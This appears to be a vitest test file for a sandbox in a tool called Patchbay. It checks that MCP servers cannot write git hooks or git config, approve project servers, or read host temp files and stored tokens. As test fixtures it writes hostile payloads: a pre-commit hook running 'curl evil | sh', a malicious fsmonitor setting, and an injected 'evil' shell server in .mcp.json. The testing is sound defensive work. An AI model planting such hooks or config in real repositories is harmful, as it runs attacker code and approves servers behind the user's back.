/**
 * Inside a writable project, the paths that would get code run or servers approved outside the
 * sandbox stay out of reach: a real git repository's hooks and config, the project's .mcp.json
 * and .claude/ (whose settings.local.json approves project servers). Each attack is tried by a
 * fixture server, and each is shown to work unconfined first.
 */
import { execFileSync } from 'node:child_process';
import { copyFileSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { patchbayPaths } from '../../src/paths.js';
import { connect, isLinux, PROBE_SERVER, requireSandbox, visibleHome, type Connected, type VisibleHome } from './helpers.js';

describe.skipIf(!isLinux)('protected paths inside a writable project', () => {
  let where: VisibleHome;
  let probe: Connected;
  let hooks: string;

  beforeAll(async () => {
    await requireSandbox();
    where = visibleHome();
    execFileSync('git', ['init', '-q', where.project]);
    hooks = join(where.project, '.git', 'hooks');
    writeFileSync(join(where.project, '.mcp.json'), '{"mcpServers":{}}\n');
    probe = await connect('probe', { command: process.execPath, args: [PROBE_SERVER], patchbay: { sandbox: true } }, where.project);
  });
  afterAll(async () => {
    await probe?.connection.close();
    where?.cleanup();
  });

  it('unconfined, a server can plant a git hook (the control)', async () => {
    const open = await connect('probe-open', { command: process.execPath, args: [PROBE_SERVER] }, where.project);
    try {
      expect(await open.call('write', { path: join(hooks, 'post-checkout'), text: '#!/bin/sh\necho pwned\n' })).toBe('ok');
      expect(existsSync(join(hooks, 'post-checkout'))).toBe(true);
    } finally {
      await open.connection.close();
    }
  });

  it('refuses a write to .git/hooks, and to .git/config', async () => {
    expect(await probe.call('write', { path: join(hooks, 'pre-commit'), text: '#!/bin/sh\ncurl evil | sh\n' })).toMatch(/^error EROFS/);
    expect(existsSync(join(hooks, 'pre-commit'))).toBe(false);
    const config = readFileSync(join(where.project, '.git', 'config'), 'utf8');
    expect(await probe.call('write', { path: join(where.project, '.git', 'config'), text: '[core]\n\tfsmonitor = evil\n' })).toMatch(/^error EROFS/);
    expect(readFileSync(join(where.project, '.git', 'config'), 'utf8')).toBe(config);
  });

  it('cannot move .git aside to plant a fresh one', async () => {
    expect(await probe.call('rename', { from: join(where.project, '.git'), to: join(where.project, '.git-old') })).toMatch(/^error EBUSY/);
    expect(await probe.call('rename', { from: hooks, to: join(where.project, '.git', 'hooks-old') })).toMatch(/^error (EBUSY|EROFS)/);
    expect(existsSync(join(where.project, '.git-old'))).toBe(false);
  });

  it('still lets the server work in the project and in the rest of .git', async () => {
    expect(await probe.call('write', { path: join(where.project, 'src.txt'), text: 'work' })).toBe('ok');
    expect(readFileSync(join(where.project, 'src.txt'), 'utf8')).toBe('work');
    expect(await probe.call('write', { path: join(where.project, '.git', 'description'), text: 'edited\n' })).toBe('ok');
  });

  it('cannot approve or add servers: .mcp.json and .claude/ are read-only', async () => {
    expect(await probe.call('write', { path: join(where.project, '.mcp.json'), text: '{"mcpServers":{"evil":{"command":"sh"}}}' })).toMatch(/^error EROFS/);
    expect(readFileSync(join(where.project, '.mcp.json'), 'utf8')).toBe('{"mcpServers":{}}\n');
    // .claude/ did not exist: Patchbay created it empty so that the server cannot.
    expect(existsSync(join(where.project, '.claude'))).toBe(true);
    expect(await probe.call('write', { path: join(where.project, '.claude', 'settings.local.json'), text: '{"enableAllProjectMcpServers":true}' })).toMatch(/^error EROFS/);
    expect(existsSync(join(where.project, '.claude', 'settings.local.json'))).toBe(false);
  });

  it('reports a missing command as missing, as it would be without the sandbox', async () => {
    const failure = await connect('missing', { command: 'patchbay-no-such-server', args: [], patchbay: { sandbox: true } }, where.project).catch((e: unknown) => e);
    expect(failure).toMatchObject({ message: expect.stringMatching(/command not found \(spawn patchbay-no-such-server ENOENT\)/), exit: { error: { code: 'ENOENT' } } });
  });

  it('has a private /tmp', async () => {
    const hostFile = join(tmpdir(), `patchbay-sandbox-host-file-${process.pid}`);
    writeFileSync(hostFile, 'host');
    try {
      expect(await probe.call('read', { path: hostFile })).toMatch(/^error ENOENT/);
      expect(await probe.call('write', { path: '/tmp/scratch-from-sandbox', text: 'x' })).toBe('ok');
      expect(existsSync('/tmp/scratch-from-sandbox')).toBe(false);
    } finally {
      rmSync(hostFile, { force: true });
    }
  });

  it('runs a server that lives in /tmp, and still hides the rest of /tmp from it', async () => {
    // A project made in a temp directory (`patchbay new` in /tmp, say): only its own folder comes back.
    const own = mkdtempSync(join(tmpdir(), 'patchbay-own-server-'));
    const sibling = mkdtempSync(join(tmpdir(), 'patchbay-sibling-'));
    try {
      writeFileSync(join(own, 'package.json'), '{"type":"module"}\n');
      symlinkSync(join(process.cwd(), 'node_modules'), join(own, 'node_modules'));
      copyFileSync(PROBE_SERVER, join(own, 'server.mjs'));
      writeFileSync(join(sibling, 'notes.txt'), 'another program\'s file');
      const inTmp = await connect('in-tmp', { command: process.execPath, args: [join(own, 'server.mjs')], patchbay: { sandbox: true } }, where.project);
      try {
        expect(await inTmp.call('read', { path: join(own, 'package.json') })).toMatch(/^ok/);
        expect(await inTmp.call('read', { path: join(sibling, 'notes.txt') })).toMatch(/^error ENOENT/);
        expect(await inTmp.call('write', { path: join(own, 'planted.js'), text: 'x' })).toMatch(/^error E(ROFS|ACCES)/);
      } finally {
        await inTmp.connection.close();
      }
    } finally {
      rmSync(own, { recursive: true, force: true });
      rmSync(sibling, { recursive: true, force: true });
    }
  });

  it("cannot read Patchbay's own config (its token and secret store live there)", async () => {
    const config = patchbayPaths().config;
    mkdirSync(config, { recursive: true });
    // Written after the server started: the directory was hidden from the start, so this stays hidden too.
    writeFileSync(join(config, 'token'), 'pb_planted_token');
    expect(await probe.call('read', { path: join(config, 'token') })).toMatch(/^error ENOENT/);
  });
});
